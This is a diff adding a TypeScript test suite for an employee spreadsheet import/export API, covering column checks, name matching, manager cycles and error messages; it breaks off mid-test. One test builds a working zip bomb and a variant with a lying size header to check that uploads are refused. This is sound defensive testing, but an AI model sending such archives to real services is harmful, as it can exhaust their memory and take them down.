@@ -1,0 +1,782 @@
+import { randomBytes } from 'node:crypto';
+import { crc32, createDeflateRaw, deflateRawSync } from 'node:zlib';
+import { asc, eq } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { accounts, departments, employees, positions } from '../../src/db/schema.ts';
+import { call, createTestApp, upload, type TestApp } from '../helpers/app.ts';
+import {
+  addDepartment,
+  addEmployee,
+  addPosition,
+  addProject,
+  createCompany,
+  signIn,
+  type TestCompany,
+} from '../helpers/factories.ts';
+
+/** The import's column contract (domain.md §5), written out here on purpose: a change must break this test. */
+const COLUMNS: readonly string[] = Object.freeze([
+  'employee_number',
+  'first_name',
+  'last_name',
+  'email',
+  'username',
+  'password',
+  'role',
+  'department',
+  'sub_department',
+  'position',
+  'report_to',
+]);
+const IMPORT = '/api/wizard/import-users-from-csv/';
+const EXPORT = '/api/account/export-employees/';
+const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+
+type Cell = string | number;
+
+function csv(rows: ReadonlyArray<readonly Cell[]>): Buffer {
+  const quote = (c: Cell) => (/[",\r\n]/.test(String(c)) ? `"${String(c).replace(/"/g, '""')}"` : String(c));
+  return Buffer.from(rows.map((r) => r.map(quote).join(',')).join('\r\n') + '\r\n', 'utf8');
+}
+
+async function xlsx(rows: ReadonlyArray<readonly Cell[]>): Promise<Buffer> {
+  const workbook = new ExcelJS.Workbook();
+  const sheet = workbook.addWorksheet('employees');
+  rows.forEach((r, i) => {
+    // An empty array leaves a blank row in the middle of the sheet.
+    if (r.length) sheet.getRow(i + 1).values = [...r];
+  });
+  return Buffer.from(await workbook.xlsx.writeBuffer());
+}
+
+/** The first sheet of an XLSX as rows of raw cell values (index 0 = column A), with the cells' types. */
+async function readXlsx(bytes: Buffer) {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
+  const sheet = workbook.worksheets[0]!;
+  const rows: unknown[][] = [];
+  const types = new Set<ExcelJS.ValueType>();
+  sheet.eachRow({ includeEmpty: false }, (row) => {
+    const cells: unknown[] = [];
+    for (let c = 1; c <= COLUMNS.length; c += 1) {
+      const cell = row.getCell(c);
+      types.add(cell.type);
+      cells.push(cell.value ?? '');
+    }
+    rows.push(cells);
+  });
+  return { rows, types, sheetName: sheet.name };
+}
+
+function readCsv(bytes: Buffer): string[][] {
+  const text = bytes.toString('utf8');
+  expect(text.startsWith('\uFEFF')).toBe(true); // Excel reads UTF-8 (az, ru names) only with a BOM
+  return Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
+}
+
+/** A minimal zip writer (deflate), to craft archives that libraries refuse to write. */
+interface ZipEntry {
+  name: string;
+  data?: Buffer;
+  deflated?: { bytes: Buffer; size: number; crc: number };
+  /** The uncompressed size the archive claims (a lying central directory). */
+  claimedSize?: number;
+}
+function zip(entries: ZipEntry[]): Buffer {
+  const parts: Buffer[] = [];
+  const directory: Buffer[] = [];
+  let offset = 0;
+  for (const entry of entries) {
+    const name = Buffer.from(entry.name);
+    const content = entry.deflated ?? { bytes: deflateRawSync(entry.data!), size: entry.data!.length, crc: crc32(entry.data!) };
+    const size = entry.claimedSize ?? content.size;
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(8, 8);
+    local.writeUInt32LE(content.crc >>> 0, 14);
+    local.writeUInt32LE(content.bytes.length, 18);
+    local.writeUInt32LE(size, 22);
+    local.writeUInt16LE(name.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(8, 10);
+    central.writeUInt32LE(content.crc >>> 0, 16);
+    central.writeUInt32LE(content.bytes.length, 20);
+    central.writeUInt32LE(size, 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE(offset, 42);
+    parts.push(local, name, content.bytes);
+    directory.push(central, name);
+    offset += 30 + name.length + content.bytes.length;
+  }
+  const dir = Buffer.concat(directory);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(dir.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...parts, dir, end]);
+}
+
+/** Deflates head + filler×times + tail as a stream: a huge entry without ever holding it in memory. */
+async function deflateStream(head: string, filler: Buffer, times: number, tail: string) {
+  const deflate = createDeflateRaw({ level: 9 });
+  const out: Buffer[] = [];
+  deflate.on('data', (chunk: Buffer) => out.push(chunk));
+  const ended = new Promise((resolve) => deflate.on('end', resolve));
+  let crc = 0;
+  let size = 0;
+  const write = (chunk: Buffer) =>
+    new Promise<void>((resolve) => {
+      crc = crc32(chunk, crc);
+      size += chunk.length;
+      if (deflate.write(chunk)) resolve();
+      else deflate.once('drain', () => resolve());
+    });
+  await write(Buffer.from(head));
+  for (let i = 0; i < times; i += 1) await write(filler);
+  await write(Buffer.from(tail));
+  deflate.end();
+  await ended;
+  return { bytes: Buffer.concat(out), size, crc };
+}
+
+/** The parts of a real (minimal) XLSX around one worksheet of inline strings. */
+const xmlHead = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
+const XLSX_PARTS: ZipEntry[] = [
+  {
+    name: '[Content_Types].xml',
+    data: Buffer.from(
+      `${xmlHead}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
+    ),
+  },
+  {
+    name: '_rels/.rels',
+    data: Buffer.from(
+      `${xmlHead}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    ),
+  },
+  {
+    name: 'xl/workbook.xml',
+    data: Buffer.from(
+      `${xmlHead}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="employees" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+    ),
+  },
+  {
+    name: 'xl/_rels/workbook.xml.rels',
+    data: Buffer.from(
+      `${xmlHead}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+    ),
+  },
+];
+function sheetXml(rows: ReadonlyArray<readonly string[]>) {
+  const column = (i: number) => String.fromCharCode(65 + i);
+  const body = rows
+    .map((r, i) => `<row r="${i + 1}">${r.map((v, j) => `<c r="${column(j)}${i + 1}" t="inlineStr"><is><t>${v}</t></is></c>`).join('')}</row>`)
+    .join('');
+  const open = `${xmlHead}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`;
+  return { open, body, close: '</sheetData></worksheet>' };
+}
+
+describe('employee import and export (domain.md §5)', () => {
+  let t: TestApp;
+  let acme: TestCompany;
+  let token: string;
+  let serial = 0;
+  /** A tag unique to this run, so that usernames and emails (unique in the whole deployment) never collide. */
+  const run = randomBytes(3).toString('hex');
+
+  beforeAll(async () => {
+    t = await createTestApp({ RATE_LIMIT_PER_MINUTE: '0' });
+    acme = await createCompany(t.deps, { company: 'Acme' });
+    token = (await signIn(t, acme.owner.username)).access;
+  });
+  afterAll(() => t.close());
+
+  /** A fresh project with departments, positions and one existing manager (M-1 Murad Huseynov). */
+  async function freshProject() {
+    serial += 1;
+    const project = await addProject(t.deps, acme.companyId, `Project ${serial}`);
+    const c = { companyId: acme.companyId, projectId: project.id };
+    const engineering = await addDepartment(t.deps, c, 'Engineering');
+    const backend = await addDepartment(t.deps, c, 'Backend', engineering.id);
+    const sales = await addDepartment(t.deps, c, 'Sales');
+    const head = await addPosition(t.deps, c, engineering.id, 'Head of Engineering');
+    const engineer = await addPosition(t.deps, c, backend.id, 'Engineer', head.id);
+    // The same position name in another department: matching must stay inside the row's department.
+    const salesEngineer = await addPosition(t.deps, c, sales.id, 'Engineer');
+    const rep = await addPosition(t.deps, c, sales.id, 'Sales Rep');
+    const murad = await addEmployee(t.deps, c, { number: 'M-1', firstName: 'Murad', lastName: 'Huseynov', departmentId: engineering.id, positionId: head.id });
+    return { id: project.id, c, engineering, backend, sales, head, engineer, salesEngineer, rep, murad };
+  }
+
+  /** Identities unique to the current project (usernames and emails are unique in the whole deployment). */
+  const person = (id: string) => ({ email: `${id}-${run}-${serial}@example.com`, username: `${id}_${run}_${serial}` });
+
+  /** Three new employees: E-1 reports to E-2 (defined later in the file), E-2 to M-1 by number, E-3 to Murad by name. */
+  function goodRows(): Cell[][] {
+    const a = person('aysel');
+    const n = person('nigar');
+    const r = person('rashad');
+    return [
+      [...COLUMNS],
+      ['E-1', 'Aysel', 'Mammadova', a.email, a.username, 'Secret-pass-1', '', 'Engineering', 'Backend', 'Engineer', 'E-2'],
+      ['E-3', 'Rashad', 'Aliyev', r.email, r.username, '', 'user', 'Sales', '', 'Sales Rep', 'Murad Huseynov'],
+      ['E-2', 'Nigar', 'Karimova', n.email, n.username, 'Secret-pass-2', 'admin', 'Engineering', '', 'Head of Engineering', 'M-1'],
+    ];
+  }
+
+  /** Everything an import could write, to prove that a refused file wrote nothing. */
+  async function snapshot(projectId: number) {
+    const rows = await t.deps.db
+      .select({
+        id: employees.id,
+        number: employees.employeeNumber,
+        first: employees.firstName,
+        last: employees.lastName,
+        department: employees.departmentId,
+        sub: employees.subDepartmentId,
+        position: employees.positionId,
+        reportTo: employees.reportToId,
+        status: employees.status,
+        username: accounts.username,
+        email: accounts.email,
+        role: accounts.role,
+        hash: accounts.passwordHash,
+        version: accounts.tokenVersion,
+      })
+      .from(employees)
+      .innerJoin(accounts, eq(accounts.id, employees.accountId))
+      .where(eq(employees.projectId, projectId))
+      .orderBy(asc(employees.id));
+    const companyAccounts = await t.deps.db.select({ id: accounts.id }).from(accounts).where(eq(accounts.companyId, acme.companyId));
+    const depts = await t.deps.db.select({ id: departments.id, name: departments.name }).from(departments).where(eq(departments.projectId, projectId));
+    const pos = await t.deps.db.select({ id: positions.id, name: positions.name }).from(positions).where(eq(positions.projectId, projectId));
+    return { rows, accounts: companyAccounts.length, depts, pos };
+  }
+
+  async function listEmployees(projectId: number, as = token) {
+    const res = await call(t.app, 'GET', '/api/wizard/employees/?status=all&page_size=200&ordering=employee_number', { token: as, project: projectId });
+    expect(res.statusCode).toBe(200);
+    return res.json().results as Array<{
+      employee_number: string;
+      first_name: string;
+      last_name: string;
+      role: string;
+      department: { id: number; name: string } | null;
+      sub_department: { id: number; name: string } | null;
+      position: { id: number; name: string } | null;
+      report_to: { id: number; full_name: string } | null;
+      id: number;
+    }>;
+  }
+
+  const send = (projectId: number, name: string, bytes: Buffer, options: { lang?: string; as?: string } = {}) =>
+    upload(t.app, IMPORT, { name, bytes, type: name.endsWith('.csv') ? 'text/csv' : XLSX_TYPE }, { token: options.as ?? token, project: projectId, lang: options.lang });
+
+  /** Sends a file that must be refused, and proves that nothing changed. */
+  async function refused(projectId: number, name: string, bytes: Buffer, options: { lang?: string; as?: string } = {}) {
+    const before = await snapshot(projectId);
+    const res = await send(projectId, name, bytes, options);
+    expect(await snapshot(projectId)).toEqual(before);
+    return res;
+  }
+
+  describe('templates', () => {
+    it('GET ?format=csv is a UTF-8 CSV (with BOM) whose only row is the columns in order', async () => {
+      const res = await call(t.app, 'GET', `${IMPORT}?format=csv`, { token, project: acme.projectId });
+      expect(res.statusCode).toBe(200);
+      expect(res.headers['content-type']).toMatch(/^text\/csv/);
+      expect(res.headers['content-disposition']).toBe('attachment; filename="employees-template.csv"');
+      expect(readCsv(res.rawPayload)).toEqual([COLUMNS]);
+    });
+
+    it('GET ?format=xlsx (and no format) is an XLSX whose only row is the columns in order', async () => {
+      for (const url of [`${IMPORT}?format=xlsx`, IMPORT]) {
+        const res = await call(t.app, 'GET', url, { token, project: acme.projectId });
+        expect(res.statusCode).toBe(200);
+        expect(res.headers['content-type']).toBe(XLSX_TYPE);
+        expect(res.headers['content-disposition']).toBe('attachment; filename="employees-template.xlsx"');
+        const { rows } = await readXlsx(res.rawPayload);
+        expect(rows).toEqual([COLUMNS]);
+      }
+      const bad = await call(t.app, 'GET', `${IMPORT}?format=pdf`, { token, project: acme.projectId });
+      expect(bad.statusCode).toBe(400);
+      expect(bad.json()).toEqual({ format: ['Select a valid choice.'] });
+    });
+
+    it('the downloaded templates import as "no rows" rather than as a column error', async () => {
+      const p = await freshProject();
+      for (const format of ['csv', 'xlsx'] as const) {
+        const template = (await call(t.app, 'GET', `${IMPORT}?format=${format}`, { token, project: p.id })).rawPayload;
+        const res = await refused(p.id, `template.${format}`, template);
+        expect(res.statusCode).toBe(422);
+        expect(res.json().errors).toEqual([{ row: 2, column: '', message: 'The file has no rows to import.' }]);
+      }
+    });
+  });
+
+  describe('a good file', () => {
+    it('CSV: creates employees with accounts, matching departments, positions and managers by name and number', async () => {
+      const p = await freshProject();
+      const before = await snapshot(p.id);
+      const res = await send(p.id, 'people.csv', csv(goodRows()));
+      expect(res.statusCode, res.body).toBe(200);
+      expect(res.json()).toEqual({ created: 3, updated: 0 });
+
+      const list = await listEmployees(p.id);
+      const byNumber = Object.fromEntries(list.map((e) => [e.employee_number, e]));
+      expect(Object.keys(byNumber).sort()).toEqual(['E-1', 'E-2', 'E-3', 'M-1']);
+      expect(byNumber['E-1']).toMatchObject({
+        first_name: 'Aysel',
+        last_name: 'Mammadova',
+        role: 'user',
+        department: { id: p.engineering.id, name: 'Engineering' },
+        sub_department: { id: p.backend.id, name: 'Backend' },
+        // "Engineer" of Backend, not the one of Sales
+        position: { id: p.engineer.id, name: 'Engineer' },
+        // a manager defined later in the same file
+        report_to: { id: byNumber['E-2']!.id, full_name: 'Nigar Karimova' },
+      });
+      expect(byNumber['E-2']).toMatchObject({
+        role: 'admin',
+        department: { id: p.engineering.id },
+        sub_department: null,
+        position: { id: p.head.id },
+        report_to: { id: p.murad.id, full_name: 'Murad Huseynov' }, // by employee number
+      });
+      expect(byNumber['E-3']).toMatchObject({
+        department: { id: p.sales.id },
+        position: { id: p.rep.id },
+        report_to: { id: p.murad.id }, // by unique full name
+      });
+      const after = await snapshot(p.id);
+      expect(after.accounts).toBe(before.accounts + 3);
+      expect(after.depts).toEqual(before.depts); // names are matched, never created
+      expect(after.pos).toEqual(before.pos);
+
+      // A password in the file is the account's password; without one the account cannot sign in yet.
+      await signIn(t, person('aysel').username, 'Secret-pass-1');
+      const noPassword = await call(t.app, 'POST', '/api/token/', { body: { username: person('rashad').username, password: '' } });
+      expect(noPassword.statusCode).toBe(400);
+      expect(after.rows.find((r) => r.number === 'E-3')!.hash).not.toMatch(/^\$argon2/);
+    });
+
+    it('XLSX: numeric cells, blank rows and case-insensitive names import the same way', async () => {
+      const p = await freshProject();
+      const a = person('xa');
+      const b = person('xb');
+      const rows: Cell[][] = [
+        COLUMNS.map((c) => c.toUpperCase()),
+        [1001, 'Leyla', 'Aliyeva', a.email, a.username, '', '', 'engineering', 'BACKEND', 'engineer', 1002],
+        [],
+        [1002, 'Kamran', 'Quliyev', b.email, b.username, '', 'user', 'Engineering', '', 'Head of Engineering', 'murad huseynov'],
+      ];
+      const res = await send(p.id, 'people.xlsx', await xlsx(rows));
+      expect(res.statusCode, res.body).toBe(200);
+      expect(res.json()).toEqual({ created: 2, updated: 0 });
+      const list = await listEmployees(p.id);
+      const leyla = list.find((e) => e.employee_number === '1001')!;
+      const kamran = list.find((e) => e.employee_number === '1002')!;
+      expect(leyla).toMatchObject({ sub_department: { id: p.backend.id }, position: { id: p.engineer.id }, report_to: { id: kamran.id } });
+      expect(kamran).toMatchObject({ position: { id: p.head.id }, report_to: { id: p.murad.id } });
+    });
+
+    it('a semicolon-separated CSV (what Excel writes in az and ru locales) imports the same way', async () => {
+      const p = await freshProject();
+      const text = csv(goodRows()).toString('utf8').replace(/,/g, ';');
+      const res = await send(p.id, 'people.csv', Buffer.from(`\uFEFF${text}`));
+      expect(res.statusCode, res.body).toBe(200);
+      expect(res.json()).toEqual({ created: 3, updated: 0 });
+      const list = await listEmployees(p.id);
+      expect(list.find((e) => e.employee_number === 'E-1')).toMatchObject({ position: { id: p.engineer.id }, report_to: { full_name: 'Nigar Karimova' } });
+    });
+
+    it('re-importing the same file updates instead of duplicating, and applies changed names', async () => {
+      const p = await freshProject();
+      const rows = goodRows();
+      expect((await send(p.id, 'people.csv', csv(rows))).json()).toEqual({ created: 3, updated: 0 });
+      const first = await snapshot(p.id);
+
+      const again = await send(p.id, 'people.csv', csv(rows));
+      expect(again.statusCode).toBe(200);
+      expect(again.json()).toEqual({ created: 0, updated: 3 });
+      const second = await snapshot(p.id);
+      expect(second.accounts).toBe(first.accounts);
+      expect(second.rows.map((r) => [r.id, r.number, r.first, r.last, r.department, r.sub, r.position, r.reportTo])).toEqual(
+        first.rows.map((r) => [r.id, r.number, r.first, r.last, r.department, r.sub, r.position, r.reportTo]),
+      );
+
+      // Aysel also works in another project: her name is one name everywhere.
+      const elsewhere = await addProject(t.deps, acme.companyId, `Elsewhere ${serial}`);
+      const aysel = first.rows.find((r) => r.number === 'E-1')!;
+      const [account] = await t.deps.db.select({ id: accounts.id }).from(accounts).where(eq(accounts.username, aysel.username));
+      const [other] = await t.deps.db
+        .insert(employees)
+        .values({ companyId: acme.companyId, projectId: elsewhere.id, accountId: account!.id, employeeNumber: 'X-9', firstName: 'Aysel', lastName: 'Mammadova' })
+        .returning();
+
+      // Changed names and placement, same numbers: the same employees change.
+      rows[1]![2] = 'Mammadova-Aliyeva';
+      rows[3]![8] = 'Backend';
+      rows[3]![9] = 'Engineer';
+      const changed = await send(p.id, 'people.csv', csv(rows));
+      expect(changed.json()).toEqual({ created: 0, updated: 3 });
+      const list = await listEmployees(p.id);
+      expect(list).toHaveLength(4);
+      expect(list.find((e) => e.employee_number === 'E-1')).toMatchObject({ last_name: 'Mammadova-Aliyeva' });
+      expect(list.find((e) => e.employee_number === 'E-2')).toMatchObject({ sub_department: { id: p.backend.id }, position: { id: p.engineer.id } });
+      const [otherAfter] = await t.deps.db.select().from(employees).where(eq(employees.id, other!.id));
+      expect(otherAfter).toMatchObject({ firstName: 'Aysel', lastName: 'Mammadova-Aliyeva', employeeNumber: 'X-9', projectId: elsewhere.id });
+      const third = await snapshot(p.id);
+      expect(third.rows.map((r) => r.id)).toEqual(first.rows.map((r) => r.id));
+      expect(third.accounts).toBe(first.accounts);
+    });
+  });
+
+  describe('a bad file is refused whole, with every error, and writes nothing', () => {
+    it('wrong columns', async () => {
+      const p = await freshProject();
+      const rows = goodRows();
+      [rows[0]![1], rows[0]![2]] = [rows[0]![2]!, rows[0]![1]!];
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.statusCode).toBe(422);
+      expect(res.json()).toEqual({
+        detail: 'The file has errors: nothing was imported.',
+        code: 'import_invalid',
+        errors: [
+          { row: 1, column: 'first_name', message: 'Expected the column "first_name" here.' },
+          { row: 1, column: 'last_name', message: 'Expected the column "last_name" here.' },
+        ],
+      });
+      const short = await refused(p.id, 'people.csv', csv([COLUMNS.slice(0, 10), ['E-9', 'A', 'B', 'a@example.com', 'ab', '', '', '', '', '']]));
+      expect(short.json().errors).toEqual([{ row: 1, column: 'report_to', message: 'Expected the column "report_to" here.' }]);
+    });
+
+    it('unknown department, sub-department, position and manager names, each at its row and column', async () => {
+      const p = await freshProject();
+      const rows = goodRows();
+      rows[1]![7] = 'Marketing'; // unknown department: its sub-department cannot match either
+      rows[2]![9] = 'Astronaut';
+      rows[3]![8] = 'Sales'; // a top-level department is not a sub-department of Engineering
+      rows[3]![10] = 'Nobody Known';
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.statusCode).toBe(422);
+      expect(res.json().errors).toEqual([
+        { row: 2, column: 'department', message: 'There is no "Marketing" here in this project.' },
+        { row: 2, column: 'sub_department', message: 'There is no "Backend" here in this project.' },
+        { row: 2, column: 'position', message: 'There is no "Engineer" here in this project.' },
+        { row: 3, column: 'position', message: 'There is no "Astronaut" here in this project.' },
+        { row: 4, column: 'sub_department', message: 'There is no "Sales" here in this project.' },
+        { row: 4, column: 'report_to', message: 'There is no "Nobody Known" here in this project.' },
+      ]);
+    });
+
+    it('a manager name that several employees share must be given by number', async () => {
+      const p = await freshProject();
+      await addEmployee(t.deps, p.c, { number: 'M-2', firstName: 'Murad', lastName: 'Huseynov' });
+      const rows = goodRows();
+      rows[2]![10] = 'murad huseynov'; // two of them now
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.statusCode).toBe(422);
+      expect(res.json().errors).toEqual([
+        { row: 3, column: 'report_to', message: 'More than one employee is called "murad huseynov": use the employee number.' },
+      ]);
+      rows[2]![10] = 'M-2';
+      expect((await send(p.id, 'people.csv', csv(rows))).json()).toEqual({ created: 3, updated: 0 });
+    });
+
+    it('a position of another department is unknown for the row', async () => {
+      const p = await freshProject();
+      const rows = goodRows().slice(0, 2);
+      rows[1]![8] = '';
+      rows[1]![9] = 'Sales Rep'; // exists, but in Sales, not in Engineering
+      rows[1]![10] = '';
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.json().errors).toEqual([{ row: 2, column: 'position', message: 'There is no "Sales Rep" here in this project.' }]);
+    });
+
+    it('duplicate employee numbers (and usernames, emails) in the file', async () => {
+      const p = await freshProject();
+      const rows = goodRows();
+      rows[3]![0] = 'e-1'; // numbers compare without case
+      rows[3]![10] = '';
+      rows[1]![10] = '';
+      rows[2]![4] = rows[1]![4]!;
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.statusCode).toBe(422);
+      expect(res.json().errors).toEqual([
+        { row: 3, column: 'username', message: 'This value appears more than once in the file.' },
+        { row: 4, column: 'employee_number', message: 'This value appears more than once in the file.' },
+      ]);
+    });
+
+    it('a manager cycle in the file (A→B→A), and an employee reporting to themselves', async () => {
+      const p = await freshProject();
+      const a = person('cyc-a');
+      const b = person('cyc-b');
+      const c = person('cyc-c');
+      const rows = [
+        COLUMNS,
+        ['C-1', 'Anar', 'Babayev', a.email, a.username, '', '', '', '', '', 'C-2'],
+        ['C-2', 'Banu', 'Cavadova', b.email, b.username, '', '', '', '', '', 'Anar Babayev'],
+        ['C-3', 'Cahid', 'Daşdəmirov', c.email, c.username, '', '', '', '', '', 'C-3'],
+      ];
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.statusCode).toBe(422);
+      const cycle = 'An employee cannot report to themselves or to anyone below them.';
+      expect(res.json().errors).toEqual([
+        { row: 2, column: 'report_to', message: cycle },
+        { row: 3, column: 'report_to', message: cycle },
+        { row: 4, column: 'report_to', message: cycle },
+      ]);
+    });
+
+    it('a cycle through an existing employee: M-1 re-imported to report to someone who reports to M-1', async () => {
+      const p = await freshProject();
+      const x = person('cyc-x');
+      const m = person('cyc-m');
+      const rows = [
+        COLUMNS,
+        ['X-1', 'Xəyal', 'Əliyev', x.email, x.username, '', '', 'Engineering', '', '', 'M-1'],
+        ['M-1', 'Murad', 'Huseynov', m.email, m.username, '', '', 'Engineering', '', '', 'X-1'],
+      ];
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.json().errors.map((e: { row: number; column: string }) => [e.row, e.column])).toEqual([
+        [2, 'report_to'],
+        [3, 'report_to'],
+      ]);
+    });
+
+    it('invalid fields, usernames and emails already taken, and row numbers that count blank rows', async () => {
+      const p = await freshProject();
+      const rows = goodRows();
+      rows[1]![3] = 'not-an-email';
+      rows[1]![6] = 'boss';
+      rows[2]![4] = acme.owner.username.toUpperCase(); // taken in the deployment (any case)
+      rows.splice(2, 0, [], ['', '', '', '', '', '', '', '', '', '', '']); // two blank rows: rows 3 and 4
+      const res = await refused(p.id, 'people.csv', csv(rows));
+      expect(res.statusCode).toBe(422);
+      expect(res.json().errors).toEqual([
+        { row: 2, column: 'email', message: 'A valid email is required' },
+        { row: 2, column: 'role', message: 'Select a valid choice.' },
+        { row: 5, column: 'username', message: 'A user with that username already exists.' },
+      ]);
+    });
+
+    it('an empty file: header only (422) and zero bytes (400)', async () => {
+      const p = await freshProject();
+      const headerOnly = await refused(p.id, 'people.csv', csv([COLUMNS, [], []]));
+      expect(headerOnly.statusCode).toBe(422);
+      expect(headerOnly.json().errors).toEqual([{ row: 2, column: '', message: 'The file has no rows to import.' }]);
+      const headerOnlyXlsx = await refused(p.id, 'people.xlsx', await xlsx([COLUMNS]));
+      expect(headerOnlyXlsx.statusCode).toBe(422);
+      const zero = await refused(p.id, 'people.xlsx', Buffer.alloc(0));
+      expect(zero.statusCode).toBe(400);
+      expect(zero.json()).toEqual({ file: ['This field is required'] });
+      const noFile = await call(t.app, 'POST', IMPORT, { token, project: p.id, body: { file: 'x' } });
+      expect(noFile.statusCode).toBe(400);
+      expect(noFile.json()).toEqual({ file: ['This field is required'] });
+    });
+
+    it('a file that is not a spreadsheet, whatever its name', async () => {
+      const p = await freshProject();
+      const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%'), Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]), Buffer.from('\n1 0 obj\n<<>>\nendobj\n')]);
+      const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
+      const utf16 = Buffer.from(`\uFEFF${COLUMNS.join(',')}\r\n`, 'utf16le');
+      // A zip, but no workbook in it (a .docx or any archive renamed).
+      const archive = zip([{ name: 'notes.txt', data: Buffer.from('hello') }]);
+      const truncated = (await xlsx(goodRows())).subarray(0, 400);
+      for (const [name, bytes] of [
+        ['people.xlsx', pdf],
+        ['people.xlsx', png],
+        ['people.csv', utf16],
+        ['people.xlsx', archive],
+        ['people.xlsx', truncated],
+        // Plain text (even a valid CSV) under a workbook's name.
+        ['people.xlsx', Buffer.from('employee_number,first_name\nE1,Ann\n')],
+      ] as const) {
+        const res = await refused(p.id, name, bytes);
+        expect(res.statusCode, `${name} ${bytes.subarray(0, 8).toString('hex')}`).toBe(400);
+        expect(res.json()).toEqual({ file: ['Upload an .xlsx or .csv file.'] });
+      }
+    });
+
+    it('a zip bomb is refused from its central directory, without being inflated', async () => {
+      const p = await freshProject();
+      const a = person('bomb');
+      const sheet = sheetXml([COLUMNS, ['B-1', 'Bomb', 'Row', a.email, a.username, '', '', '', '', '', '']]);
+      // 200 MB of spaces inside a valid worksheet: unguarded, this file would import one employee.
+      const huge = await deflateStream(sheet.open, Buffer.alloc(1024 * 1024, 0x20), 200, sheet.body + sheet.close);
+      expect(huge.bytes.length).toBeLessThan(400 * 1024);
+      const control = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheet.open + sheet.body + sheet.close) }]);
+      const bomb = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', deflated: huge }]);
+      // The same entry with a central directory that claims 200 kB: the sizes must be checked while reading.
+      const liar = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', deflated: huge, claimedSize: 200_000 }]);
+      // The app runs in this process: watch whether the XLSX reader (which inflates whole entries
+      // in memory) is ever handed the file.
+      const reader = Object.getPrototypeOf(new ExcelJS.Workbook().xlsx) as { load: (...args: unknown[]) => unknown };
+      const load = vi.spyOn(reader, 'load');
+      try {
+        for (const bytes of [bomb, liar]) {
+          const res = await refused(p.id, 'people.xlsx', bytes);
+          expect(res.statusCode).toBe(400);
+          expect(res.json()).toEqual({ file: ['Upload an .xlsx or .csv file.'] });
+        }
+        expect(load).not.toHaveBeenCalled();
+      } finally {
+        load.mockRestore();
+      }
+      // The hand-made workbook itself is a valid file: the refusal above is about the bomb, not the format.
+      const ok = await send(p.id, 'people.xlsx', control);
+      expect(ok.statusCode, ok.body).toBe(200);
+      expect(ok.json()).toEqual({ created: 1, updated: 0 });
+    });
+
+    it('a 20 MB file is refused with 413', async () => {
+      const p = await freshProject();
+      const big = Buffer.concat([csv([COLUMNS]), Buffer.alloc(20 * 1024 * 1024, 'a')]);
+      const res = await refused(p.id, 'people.csv', big);
+      expect(res.statusCode).toBe(413);
+      expect(res.json()).toEqual({ detail: 'The request is too large.', code: 'payload_too_large' });
+    });
+
+    it('translates the errors per Accept-Language (az, ru)', async () => {
+      const p = await freshProject();
+      const rows = goodRows();
+      rows[2]![7] = 'Marketinq';
+      rows[2]![9] = '';
+      const az = await refused(p.id, 'people.csv', csv(rows), { lang: 'az' });
+      expect(az.statusCode).toBe(422);
+      expect(az.json().errors).toEqual([{ row: 3, column: 'department', message: 'Bu layihədə "Marketinq" yoxdur.' }]);
+      expect(az.json().detail).not.toBe('The file has errors: nothing was imported.');
+
+      const swapped = goodRows();
+      swapped[0]![0] = 'number';
+      const ru = await refused(p.id, 'people.csv', csv(swapped), { lang: 'ru-RU,ru;q=0.9' });
+      expect(ru.json().errors[0]).toEqual({ row: 1, column: 'employee_number', message: expect.stringContaining('employee_number') });
+      expect(ru.json().errors[0].message).not.toBe('Expected the column "employee_number" here.');
+      expect(ru.json().errors[0].message).toMatch(/[а-яА-Я]/);
+
